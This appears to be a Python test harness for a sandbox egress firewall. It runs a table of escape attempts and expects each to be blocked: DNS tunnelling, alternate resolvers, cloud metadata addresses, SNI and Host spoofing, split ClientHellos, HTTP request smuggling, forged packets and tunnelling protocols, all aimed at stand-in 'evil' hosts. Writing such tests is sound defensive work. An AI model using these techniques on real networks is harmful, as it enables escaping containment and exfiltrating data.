"""Tries to get out of a machine, in every way of a table. Runs where the machine's processes do; needs root for raw packets.

Reads names from standard input and answers each with a line of JSON:
{"outcome": "answered" | "refused" | "silence", "detail": text, "ms": number}. Answers `list` with the table.
"""

import json
import os
import random
import socket
import ssl
import struct
import sys
import time

GATEWAY = "172.31.0.1"
GUEST = "172.31.0.2"
RESOLVER = "198.51.100.2"
CDN = "198.51.100.10"
DATABASE = "198.51.100.20"
RANGE = "198.51.100.30"
EVIL = "198.51.100.66"
NEIGHBOUR = os.environ.get("NEIGHBOUR", "10.213.0.3")
HOST = os.environ.get("HOST_ADDRESS", "198.51.100.1")
DEVICE = os.environ.get("DEVICE", "eth0")
GATEWAY_MAC = bytes.fromhex("02646d000001")
GUEST_MAC = bytes.fromhex("02646d000002")
# Long enough for an answer that should not come; what is refused is refused long before.
WAIT = 1.0
SECRET = b"FORBIDDEN"

attempts = {}


class Refused(Exception):
    pass


def attempt(name, expect="blocked"):
    def add(function):
        attempts[name] = (expect, function)
        return function

    return add


# DNS.


def wire_name(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def question(name, kind=1, extra=b"", count=1):
    head = struct.pack(">HHHHHH", random.randrange(65536), 0x100, count, 0, 0, 1 if extra else 0)
    return head + wire_name(name) + struct.pack(">HH", kind, 1) + extra


def ask(message, server=GATEWAY, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(WAIT)
        client.connect((server, port))
        client.send(message)
        return read_answer(client.recv(4096))


def ask_tcp(message, server=GATEWAY, port=53):
    with socket.create_connection((server, port), WAIT) as client:
        client.sendall(struct.pack(">H", len(message)) + message)
        data = client.recv(4096)
        if not data:
            raise Refused("closed")
        return read_answer(data[2:])


def read_answer(data):
    code = data[3] & 15
    count = struct.unpack(">H", data[6:8])[0]
    if code == 5:
        raise Refused("REFUSED")
    if code or not count:
        raise Refused(f"code {code}, {count} records")
    return f"{count} records"


def resolve(name):
    message = question(name)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(WAIT)
        client.connect((GATEWAY, 53))
        client.send(message)
        data = client.recv(4096)
        read_answer(data)
        return socket.inet_ntoa(data[-4:])


# TCP, TLS, HTTP.


def connect(address, port):
    return socket.create_connection((address, port), WAIT)


def tcp(address, port, text=SECRET):
    with connect(address, port) as client:
        client.sendall(text)
        data = client.recv(4096)
        if not data:
            raise Refused("closed")
        return f"{len(data)} bytes"


def client_hello(name, extensions=b"", version=b"\x03\x03"):
    """A ClientHello as bytes, for what no library would send."""
    server_name = b""
    if name is not None:
        host = b"\0" + struct.pack(">H", len(name)) + name
        server_name = struct.pack(">HHH", 0, len(host) + 2, len(host)) + host
    rest = bytes.fromhex("002b0003020304" "000d0006000404030804" "000a00040002001d") + extensions
    key = os.urandom(32)
    rest += struct.pack(">HHHHH", 0x33, 38, 36, 0x1D, 32) + key
    every = server_name + rest
    body = version + os.urandom(32) + b"\0" + struct.pack(">H", 2) + b"\x13\x01" + b"\x01\0"
    body += struct.pack(">H", len(every)) + every
    return b"\x01" + struct.pack(">I", len(body))[1:] + body


def encrypted():
    """An Encrypted ClientHello, or GREASE: outside of its server nobody can tell which (RFC 9849, 5 and 6.2)."""
    content = struct.pack(">BHHBH", 0, 1, 1, random.randrange(256), 32) + os.urandom(32)
    content += struct.pack(">H", 208) + os.urandom(208)
    return struct.pack(">HH", 0xFE0D, len(content)) + content


def record(handshake, kind=22):
    return bytes([kind, 3, 1]) + struct.pack(">H", len(handshake)) + handshake


def hello(address, pieces, port=443, pause=0.03):
    with connect(address, port) as client:
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for piece in pieces:
            client.sendall(piece)
            time.sleep(pause)
        data = client.recv(4096)
        if not data:
            raise Refused("closed")
        if data[0] == 21:
            raise Refused(f"alert {data[-1]}")
        return f"record {data[0]}"


def tls(address, name, port=443, text=b"hello"):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with connect(address, port) as client, context.wrap_socket(client, server_hostname=name) as secure:
        secure.sendall(text)
        return secure.recv(4096).decode()


def http(address, request, port=80, answers=1):
    with connect(address, port) as client:
        client.sendall(request)
        data = b""
        while data.count(b"saw ") < answers:
            more = client.recv(4096)
            if not more:
                break
            data += more
        if b"saw " not in data or data.count(b"saw ") < answers:
            raise Refused(data[:40].decode("latin1") or "closed")
        return data[-40:].decode("latin1")


def udp(address, port, text=SECRET):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(WAIT)
        client.connect((address, port))
        client.send(text)
        return f"{len(client.recv(4096))} bytes"


# Packets that no socket would send.


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(target, payload, protocol=17, source=GUEST, options=b"", fragment=0, version=4, tos=0):
    length = 5 + len(options) // 4
    parts = (version << 4 | length, tos, length * 4 + len(payload), random.randrange(65536), fragment, 64, protocol, 0)
    head = struct.pack(">BBHHHBBH", *parts) + socket.inet_aton(source) + socket.inet_aton(target) + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def udp_payload(port, text=SECRET, source=40000):
    return struct.pack(">HHHH", source, port, 8 + len(text), 0) + text


def tcp_payload(target, port, flags=2, text=b"", source_address=GUEST):
    head = struct.pack(">HHIIBBHHH", random.randrange(20000, 60000), port, 1, 0, 5 << 4, flags, 8192, 0, 0)
    pseudo = socket.inet_aton(source_address) + socket.inet_aton(target) + struct.pack(">BBH", 0, 6, len(head + text))
    return head[:16] + struct.pack(">H", checksum(pseudo + head + text)) + head[18:] + text


def frame(packet, kind=0x0800, source=GUEST_MAC, target=GATEWAY_MAC):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as device:
        device.bind((DEVICE, 0))
        device.send(target + source + struct.pack(">H", kind) + packet)
    time.sleep(0.02)
    raise TimeoutError


def ipv6(target, next_header=17):
    payload = udp_payload(7000)
    source = socket.inet_pton(socket.AF_INET6, "fe80::64:6dff:fe00:2")
    goal = socket.inet_pton(socket.AF_INET6, target)
    return frame(struct.pack(">IHBB", 6 << 28, len(payload), next_header, 64) + source + goal + payload, 0x86DD)


def ping(target):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.settimeout(WAIT / 2)
        body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + SECRET
        raw.sendto(body[:2] + struct.pack(">H", checksum(body)) + body[4:], (target, 0))
        while True:
            data, (peer, _) = raw.recvfrom(4096)
            if data[20] == 0:
                return f"echo from {peer}"
            if data[20] == 3:
                raise Refused(f"ICMP {data[20]}/{data[21]}")


# The table. First what has to work, so that nothing passes by everything being broken.


@attempt("an allowed name is resolved", "answered")
def _():
    return ask(question("allowed.test"))


@attempt("over TCP too", "answered")
def _():
    return ask_tcp(question("allowed.test"))


@attempt("an alias of an allowed name is followed", "answered")
def _():
    return ask(question("www.allowed.test"))


@attempt("TLS to an allowed name", "answered")
def _():
    return tls(resolve("allowed.test"), "allowed.test")


@attempt("TLS to an allowed name below a suffix", "answered")
def _():
    return tls(resolve("x.wild.test"), "x.wild.test")


@attempt("a ClientHello in pieces, with an allowed name", "answered")
def _():
    data = record(client_hello(b"allowed.test"))
    return hello(CDN, [data[:1], data[1:7], data[7:60], data[60:]])


@attempt("a ClientHello in many records, with an allowed name", "answered")
def _():
    data = client_hello(b"allowed.test")
    return hello(CDN, [b"".join(record(data[at : at + 20]) for at in range(0, len(data), 20))])


@attempt("a browser's ClientHello with an allowed name (ECH GREASE)", "answered")
def _():
    return hello(CDN, [record(client_hello(b"allowed.test", encrypted()))])


@attempt("HTTP to an allowed name", "answered")
def _():
    return http(CDN, b"GET /path HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt("two HTTP requests on one connection", "answered")
def _():
    one = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    return http(CDN, one + one, answers=2)


@attempt("a connection that a rule for tcp allows", "answered")
def _():
    return tcp(resolve("db.test"), 5432, b"select 1")


@attempt("a connection that a range allows", "answered")
def _():
    return tcp(RANGE, 7000, b"hello")


# Names.


@attempt("a name that no rule has")
def _():
    return ask(question("evil.test"))


@attempt("a name that no rule has, over TCP")
def _():
    return ask_tcp(question("evil.test"))


@attempt("another resolver over UDP")
def _():
    return ask(question("evil.test"), EVIL)


@attempt("another resolver over TCP")
def _():
    return ask_tcp(question("evil.test"), EVIL)


@attempt("the host's resolver, at its own address")
def _():
    return ask(question("evil.test"), RESOLVER)


@attempt("another resolver on another port")
def _():
    return ask(question("evil.test"), EVIL, 7000)


@attempt("DNS over TLS")
def _():
    return tls(EVIL, "evil.test", 853)


@attempt("DNS over HTTPS by address")
def _():
    return tls(EVIL, None)


@attempt("DNS over HTTPS by name")
def _():
    return tls(EVIL, "dns.evil.test")


@attempt("a tunnel in labels")
def _():
    return ask(question("FORBIDDEN-data-0123456789abcdef.evil.test"))


@attempt("a tunnel in labels below an allowed name")
def _():
    return ask(question("FORBIDDEN.allowed.test"))


@attempt("text records of another name")
def _():
    return ask(question("evil.test", 16))


@attempt("text records of an allowed name")
def _():
    return ask(question("allowed.test", 16))


@attempt("keys for encrypted names (HTTPS records)")
def _():
    return ask(question("allowed.test", 65))


@attempt("IPv6 addresses of an allowed name")
def _():
    return ask(question("allowed.test", 28))


@attempt("a zone transfer")
def _():
    return ask_tcp(question("evil.test", 252))


@attempt("two questions in one")
def _():
    second = wire_name("evil.test") + struct.pack(">HH", 1, 1)
    message = question("allowed.test", count=2)
    return ask(message + second)


@attempt("a name that is denied below an allowed suffix")
def _():
    return ask(question("bad.wild.test"))


@attempt("the suffix itself, which is not below it")
def _():
    return ask(question("wild.test"))


@attempt("a name that ends like an allowed one")
def _():
    return ask(question("evilallowed.test"))


@attempt("an allowed name as the beginning of another")
def _():
    return ask(question("allowed.test.evil.test"))


@attempt("a label with a zero byte in it")
def _():
    message = question("allowed.test")
    return ask(message[:12] + b"\x0dallowed\0.evil\x04test\0" + message[-4:])


@attempt("a label that looks like two")
def _():
    message = question("allowed.test")
    return ask(message[:12] + b"\x12allowed.test\x2eevil.\x04test\0" + message[-4:])


@attempt("letters that look like others")
def _():
    message = question("allowed.test")
    name = "аllowed".encode()
    return ask(message[:12] + bytes([len(name)]) + name + b"\x04test\0" + message[-4:])


@attempt("a public name with private addresses")
def _():
    return ask(question("rebind.test"))


@attempt("the private one of two addresses of a name")
def _():
    try:
        ask(question("halfway.test"))
    except Refused:
        pass
    return tls("192.168.7.7", "halfway.test")


@attempt("an alias of a private address")
def _():
    return ask(question("alias-private.test"))


@attempt("an alias of a denied name")
def _():
    return ask(question("alias-denied.test"))


# Addresses.


@attempt("an address as it is, on 443")
def _():
    return tls(EVIL, None)


@attempt("an address as it is, on another port")
def _():
    return tcp(EVIL, 8080)


@attempt("ssh to somewhere")
def _():
    return tcp(EVIL, 22, b"SSH-2.0-FORBIDDEN\r\n")


@attempt("ssh to an allowed name's address")
def _():
    return tcp(CDN, 22, b"SSH-2.0-FORBIDDEN\r\n")


for each, where in {
    "the metadata address": "169.254.169.254",
    "Azure's wire server": "168.63.129.16",
    "Alibaba's metadata address": "100.100.100.200",
    "shared address space (CGNAT)": "100.64.0.1",
    "10/8": "10.199.199.5",
    "172.16/12": "172.16.199.5",
    "192.168/16": "192.168.199.1",
    "loopback": "127.0.0.53",
    "broadcast": "255.255.255.255",
    "multicast": "224.0.0.251",
    "this network": "0.0.0.1",
    "6to4's relay": "192.88.99.1",
    "the host": HOST,
    "a neighbour": NEIGHBOUR,
}.items():

    @attempt(f"{each}, TCP 80")
    def _(where=where):
        if where == "127.0.0.53":
            return frame(ip(where, tcp_payload(where, 80), 6))
        if where in ("255.255.255.255", "224.0.0.251"):
            return frame(ip(where, udp_payload(5353)))
        return http(where, b"GET /FORBIDDEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt("the gateway, where nothing listens")
def _():
    return tcp(GATEWAY, 80)


@attempt("a port beside the allowed one of a range")
def _():
    return tcp(RANGE, 7001)


@attempt("UDP where TCP is allowed")
def _():
    return udp(RANGE, 7000)


@attempt("a port beside the allowed one of a name")
def _():
    return tcp(resolve("db.test"), 7000)


@attempt("the time from somewhere")
def _():
    return udp(EVIL, 123)


# Names that are not what they seem.


@attempt("an allowed TLS name at another address")
def _():
    return tls(EVIL, "allowed.test")


@attempt("an edited hosts file")
def _():
    return http(EVIL, b"GET /FORBIDDEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt("TLS without a name to an allowed address")
def _():
    return tls(CDN, None)


@attempt("TLS with another name of the same address")
def _():
    return tls(CDN, "shared-evil.test")


@attempt("TLS with an address as its name")
def _():
    return hello(CDN, [record(client_hello(CDN.encode()))])


@attempt("a TLS name with a dot at its end")
def _():
    return hello(CDN, [record(client_hello(b"allowed.test."))])


@attempt("a TLS name with a zero byte")
def _():
    return hello(CDN, [record(client_hello(b"allowed.test\0.evil.test"))])


@attempt("two names in one ClientHello")
def _():
    host = b"\0" + struct.pack(">H", 9) + b"evil.test"
    second = struct.pack(">HHH", 0, len(host) + 2, len(host)) + host
    return hello(CDN, [record(client_hello(b"allowed.test", second))])


@attempt("another name with something encrypted in it (ECH)")
def _():
    return hello(CDN, [record(client_hello(b"shared-evil.test", encrypted()))])


@attempt("an encrypted name behind a provider's, which is allowed (ECH)")
def _():
    return hello(CDN, [record(client_hello(b"cloudflare-ech.com", encrypted()))])


@attempt("something encrypted without a visible name (ECH)")
def _():
    return hello(CDN, [record(client_hello(None, encrypted()))])


@attempt("a ClientHello in pieces, with another name")
def _():
    data = record(client_hello(b"shared-evil.test"))
    return hello(CDN, [data[at : at + 30] for at in range(0, len(data), 30)], pause=0.005)


@attempt("a ClientHello in many records, with another name")
def _():
    data = client_hello(b"shared-evil.test")
    return hello(CDN, [b"".join(record(data[at : at + 9]) for at in range(0, len(data), 9))])


@attempt("a ClientHello that never ends")
def _():
    data = client_hello(b"allowed.test", struct.pack(">HH", 0x15, 16000) + bytes(16000))
    return hello(CDN, [record(data)[:12000], SECRET * 500])


@attempt("something else on 443")
def _():
    return tcp(CDN, 443, b"\0\1\2" + SECRET)


@attempt("SSH on 443")
def _():
    return tcp(CDN, 443, b"SSH-2.0-FORBIDDEN\r\n")


@attempt("SSLv2 on 443")
def _():
    return tcp(CDN, 443, bytes.fromhex("802e0100020015000000") + SECRET)


@attempt("HTTP with another host")
def _():
    return http(CDN, b"GET /FORBIDDEN HTTP/1.1\r\nHost: shared-evil.test\r\n\r\n")


@attempt("HTTP without a host")
def _():
    return http(CDN, b"GET /FORBIDDEN HTTP/1.0\r\n\r\n")


@attempt("HTTP with two hosts")
def _():
    return http(CDN, b"GET /FORBIDDEN HTTP/1.1\r\nHost: allowed.test\r\nHost: shared-evil.test\r\n\r\n")


@attempt("HTTP with another host in its first line")
def _():
    return http(CDN, b"GET http://shared-evil.test/FORBIDDEN HTTP/1.1\r\nHost: allowed.test\r\n\r\n")


@attempt("HTTP with a host of another port")
def _():
    return http(CDN, b"GET /FORBIDDEN HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n")


@attempt("HTTP's CONNECT")
def _():
    return http(CDN, b"CONNECT shared-evil.test:443 HTTP/1.1\r\nHost: allowed.test\r\n\r\nFORBIDDEN")


@attempt("a second HTTP request with another host")
def _():
    allowed = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    return http(CDN, allowed + b"GET /FORBIDDEN HTTP/1.1\r\nHost: shared-evil.test\r\n\r\n", answers=2)


@attempt("a request smuggled in a body with two lengths")
def _():
    inner = b"GET /FORBIDDEN HTTP/1.1\r\nHost: shared-evil.test\r\n\r\n"
    head = b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    return http(CDN, head % (5 + len(inner)) + inner, answers=2)


@attempt("an HTTP tunnel on 443")
def _():
    return http(CDN, b"GET /FORBIDDEN HTTP/1.1\r\nHost: shared-evil.test\r\n\r\n", 443)


@attempt("QUIC to an allowed address")
def _():
    return udp(CDN, 443)


@attempt("QUIC to another one")
def _():
    return udp(EVIL, 443)


# Packets.


@attempt("ping to somewhere")
def _():
    return ping(EVIL)


@attempt("ping to an allowed address")
def _():
    return ping(CDN)


@attempt("an ICMP error with something in it")
def _():
    body = struct.pack(">BBHI", 3, 1, 0, 0) + ip(GUEST, udp_payload(40000), source=RANGE)
    return frame(ip(RANGE, body[:2] + struct.pack(">H", checksum(body)) + body[4:], 1))


@attempt("a forged sender")
def _():
    return frame(ip(RANGE, tcp_payload(RANGE, 7000, source_address="203.0.113.9"), 6, source="203.0.113.9"))


@attempt("a neighbour as the sender")
def _():
    return frame(ip(RANGE, tcp_payload(RANGE, 7000, source_address=NEIGHBOUR), 6, source=NEIGHBOUR))


@attempt("the gateway as the sender")
def _():
    return frame(ip(RANGE, tcp_payload(RANGE, 7000, source_address=GATEWAY), 6, source=GATEWAY))


@attempt("fragments, the first one tiny")
def _():
    return frame(ip(RANGE, tcp_payload(RANGE, 7000)[:8], 6, fragment=0x2000))


@attempt("a later fragment without ports")
def _():
    return frame(ip(RANGE, SECRET * 2, 6, fragment=185))


@attempt("a source route")
def _():
    route = bytes([131, 7, 4]) + socket.inet_aton(EVIL) + b"\0"
    return frame(ip(RANGE, tcp_payload(RANGE, 7000), 6, options=route))


@attempt("a mark in the field of service")
def _():
    return frame(ip(EVIL, udp_payload(7000), tos=1 << 2))


@attempt("a TCP packet in the middle of nothing")
def _():
    return frame(ip(EVIL, tcp_payload(EVIL, 8080, 0x18, SECRET), 6))


@attempt("SCTP")
def _():
    return frame(ip(EVIL, struct.pack(">HHII", 1, 7000, 0, 0) + SECRET, 132))


@attempt("GRE")
def _():
    return frame(ip(EVIL, b"\0\0\x08\0" + SECRET, 47))


@attempt("IP in IP")
def _():
    return frame(ip(RANGE, ip(EVIL, udp_payload(7000)), 4))


@attempt("Teredo and 6in4")
def _():
    return frame(ip("192.88.99.1", b"\x60" + bytes(39) + SECRET, 41))


@attempt("a packet with another version in its header")
def _():
    return frame(ip(EVIL, udp_payload(7000), version=6))


@attempt("IPv6")
def _():
    return ipv6("2001:db8::66")


@attempt("IPv6 to a mapped address")
def _():
    return ipv6("::ffff:198.51.100.66")


@attempt("IPv6 to NAT64")
def _():
    return ipv6("64:ff9b::c633:6442")


@attempt("IPv6 to a neighbour's link-local address")
def _():
    return ipv6("ff02::1")


@attempt("a frame of another kind")
def _():
    return frame(SECRET * 8, 0x88B5)


@attempt("a frame with a VLAN tag")
def _():
    return frame(struct.pack(">HH", 7, 0x0800) + ip(EVIL, udp_payload(7000)), 0x8100)


# Connections that are held open from one line to the next.

held = {}


def hold(kind):
    if kind == "tls":
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        held[kind] = context.wrap_socket(connect(resolve("allowed.test"), 443), server_hostname="allowed.test")
    elif kind == "tcp":
        held[kind] = connect(resolve("db.test"), 5432)
    else:
        held[kind] = connect(RANGE, 7000)
    return say(kind)


def say(kind):
    held[kind].sendall(b"hello")
    data = held[kind].recv(100)
    if not data:
        raise Refused("closed")
    return f"{len(data)} bytes"


def traffic(seconds):
    """Goes on for so long with what is allowed and what is not. How often each was answered, and the longest time without."""
    ends = time.monotonic() + seconds
    good = bad = longest = 0
    last = time.monotonic()
    while time.monotonic() < ends:
        for name in ("TLS to an allowed name", "TLS with another name of the same address", "DNS over HTTPS by address"):
            try:
                attempts[name][1]()
            except (OSError, Refused):
                continue
            if attempts[name][0] == "blocked":
                bad += 1
                continue
            good += 1
            now = time.monotonic()
            longest, last = max(longest, now - last), now
    return f"{good} {bad} {max(longest, time.monotonic() - last):.1f}"


def run(name):
    started = time.monotonic()
    try:
        command, _, kind = name.partition(":")
        if command == "traffic":
            outcome, detail = "answered", traffic(float(kind))
        elif command in ("hold", "say"):
            outcome, detail = "answered", hold(kind) if command == "hold" else say(kind)
        else:
            outcome, detail = "answered", str(attempts[name][1]())
    except (socket.timeout, TimeoutError) as error:
        outcome, detail = "silence", str(error)
    except (OSError, Refused) as error:
        outcome, detail = "refused", str(error)
    return {"outcome": outcome, "detail": detail, "ms": round((time.monotonic() - started) * 1000)}


def main():
    table = [{"name": name, "expect": expect} for name, (expect, _) in attempts.items()]
    print("ready", flush=True)
    for line in sys.stdin:
        print(json.dumps(table if line.strip() == "list" else run(line.strip())), flush=True)


main()
